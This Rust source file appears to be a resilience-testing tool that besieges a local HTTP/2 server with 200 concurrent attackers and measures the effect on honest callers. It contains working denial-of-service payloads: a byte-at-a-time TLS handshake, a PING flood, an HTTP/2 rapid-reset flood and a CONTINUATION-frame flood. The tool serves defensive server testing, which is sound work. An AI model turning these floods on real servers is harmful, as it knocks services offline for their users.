//! Attackers of several kinds at once, for as long as the process lives: what honest callers notice of them is
//! measured beside it.

use crate::identity;
use clap::Args;
use dir_identity::{Connector, ServerCheck};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// Pause of an attacker that was cut off.
const PAUSE: Duration = Duration::from_secs(1);
/// Longest that an attacker stays on one connection.
const STAY: Duration = Duration::from_secs(30);

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

/// How many attackers.
#[derive(Debug, Args)]
pub(crate) struct SiegeArgs {
    /// Port of 127.0.0.1.
    #[arg(long)]
    port: u16,
    /// Workload API: these attackers have good SVIDs.
    #[arg(long)]
    socket: String,
    /// Attackers.
    #[arg(long, default_value_t = 200)]
    attackers: usize,
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A request for a path of the static table.
const REQUEST: [u8; 3] = [0x83, 0x87, 0x84];

/// What an attacker sends after the handshake; `None`: it stays in the handshake.
fn weapon(number: usize) -> Option<Vec<u8>> {
    let preface = || [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".as_slice(), &frame(SETTINGS, 0, 0, &[])].concat();
    let more = match number % 5 {
        0 => return None,
        1 => return Some(Vec::new()),
        2 => frame(PING, 0, 0, &[7; 8]).repeat(10_000),
        3 => (0..10_000_u32)
            .flat_map(|n| {
                let reset = frame(RST_STREAM, 0, 2 * n + 1, &[0, 0, 0, 8]);
                [frame(HEADERS, 0x4, 2 * n + 1, &REQUEST), reset].concat()
            })
            .collect(),
        _ => {
            let header = [&[0x00, 1, b'x', 0x7f, 0x81, 0x01][..], &[b'y'; 256]].concat();
            let endless = frame(CONTINUATION, 0, 1, &header.repeat(60)).repeat(20);
            [frame(HEADERS, 0, 1, &REQUEST), endless].concat()
        }
    };
    Some([preface(), more].concat())
}

/// Attacks until standard input closes; says a line when every attacker has begun.
pub(crate) async fn run(args: SiegeArgs) -> anyhow::Result<()> {
    let identity = identity::obtain(args.socket).await?;
    let connector = Connector::new(identity, ServerCheck::TrustDomains(Vec::new()));
    for number in 0..args.attackers {
        let (connector, port) = (connector.clone(), args.port);
        tokio::spawn(async move {
            let weapon = weapon(number);
            loop {
                drop(tokio::time::timeout(STAY, attack(&connector, port, weapon.as_deref())).await);
                tokio::time::sleep(PAUSE).await;
            }
        });
    }
    println!("besieged");
    tokio::task::spawn_blocking(|| std::io::read_to_string(std::io::stdin())).await??;
    Ok(())
}

/// One attack, until the server ends it.
async fn attack(connector: &Connector, port: u16, weapon: Option<&[u8]>) -> anyhow::Result<()> {
    let mut tcp = TcpStream::connect(("127.0.0.1", port)).await?;
    let Some(weapon) = weapon else {
        // A ClientHello that comes a byte at a time.
        tcp.write_all(&[0x16, 0x03, 0x01, 0x02, 0x00, 0x01]).await?;
        loop {
            tcp.write_all(&[0]).await?;
            tokio::time::sleep(Duration::from_millis(500)).await;
        }
    };
    let mut io = connector.connect(tcp, identity::SERVER_NAME).await?;
    io.write_all(weapon).await?;
    let mut sink = [0; 4096];
    while io.read(&mut sink).await? > 0 {}
    Ok(())
}
